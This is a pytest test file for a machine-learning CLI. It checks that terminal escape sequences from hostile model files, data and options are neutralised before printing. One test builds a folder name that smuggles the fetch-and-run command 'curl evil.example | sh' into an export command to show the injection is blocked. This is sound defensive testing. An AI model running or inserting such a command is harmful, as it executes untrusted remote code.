"""Texts from hostile files do not control the terminal that they are printed on."""

import json
import shutil
import sys
import warnings

import pytest
from commands import run
from hostile_files import (
    TERMINAL_CODES,
    change_json,
    commands_on,
    make_adapter,
    make_model,
)
from tokenizer_helpers import write_rows

from qlora_jax.llm.app import environment
from qlora_jax.llm.app.training.preview import Preview
from qlora_jax.llm.cli import main as command_line
from qlora_jax.llm.printable import printable

SHOWN = r"\x1b[2J\x1b]0;evil\x07\x9b31m\x08\rok"  # up to the line break


@pytest.fixture
def model(tmp_path):
    return make_model(tmp_path / "model")


def run_and_check(capsys, *arguments):
    status, output, errors = run(capsys, *arguments)
    text = output + errors
    controls = {x for x in text if not x.isprintable()} - {"\n", "\t", "\u00a0"}
    assert not controls, controls
    return status, text


def test_the_type_of_a_model(model, tmp_path, capsys):
    change_json(model / "config.json", model_type=TERMINAL_CODES)
    for name in ("generate", "train"):
        assert run_and_check(capsys, *commands_on(model, tmp_path)[name])[0] == 1


def test_errors_of_a_template(model, tmp_path, capsys):
    error = json.dumps(TERMINAL_CODES)
    template = "{{ raise_exception(" + error + ") }}"
    (model / "chat_template.jinja").write_text(template)
    status, text = run_and_check(capsys, *commands_on(model, tmp_path)["generate"])
    assert status == 1 and SHOWN in text


def test_text_of_data(model, tmp_path, capsys):
    arguments = commands_on(model, tmp_path)["preview"]
    text = TERMINAL_CODES
    write_rows(tmp_path / "rows.jsonl", [{"prompt": text, "completion": text}])
    status, text = run_and_check(capsys, *arguments)
    assert status == 0 and text.count(SHOWN) == 2 and "\nfine" in text
    # The colors of a preview are not the data's.
    with pytest.MonkeyPatch.context() as context:
        context.setattr(sys.stdout, "isatty", lambda: True)
        context.delenv("NO_COLOR", raising=False)
        row = dict(name="row 1", source="", tokens=2, targets=1)
        row["pieces"] = ((TERMINAL_CODES, False), ("4", True))
        assert str(Preview((row,))).count("\x1b") == 2


def test_options_in_a_file(tmp_path, capsys):
    (tmp_path / "run.yaml").write_text(json.dumps({TERMINAL_CODES: 1}))
    with pytest.raises(SystemExit):
        command_line.main(["train", "--config", str(tmp_path / "run.yaml")])
    assert "\x1b" not in capsys.readouterr().err


def test_warnings(monkeypatch):
    monkeypatch.setattr(warnings, "formatwarning", warnings.formatwarning)
    environment.shorten_warnings()
    text = warnings.formatwarning(TERMINAL_CODES, UserWarning, "file", 1)
    assert text == f"warning: {SHOWN}\nfine\\x7f\n"


@pytest.mark.parametrize("is_terminal", [True, False])
def test_answers_are_changed_only_on_a_terminal(capsys, monkeypatch, is_terminal):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: is_terminal)
    command_line._write_answer(TERMINAL_CODES)
    assert ("\x1b" in capsys.readouterr().out) != is_terminal


@pytest.mark.slow
@pytest.mark.parametrize("server", ["vllm", "llama.cpp"])
def test_the_name_of_a_folder_adds_no_line_to_a_command(
    model, tmp_path, capsys, server
):
    evil = tmp_path / "x\n\n    curl evil.example | sh\n"
    shutil.move(model, evil)
    out = tmp_path / "out"
    arguments = ["export", "--model", evil, "--for", server, "--out", out]
    arguments += ["--adapter", make_adapter(tmp_path / "adapter")]
    status, text = run_and_check(capsys, *arguments)
    if status == 1:
        assert "control characters" in text and not out.exists()
    else:
        lines = map(str.strip, text.splitlines())
        assert not [x for x in lines if x.startswith("curl evil")]


def test_all_other_characters_are_printed():
    text = "é 中 \u200d \U0001f600 {} \\ \u2028"
    assert printable(text) == text
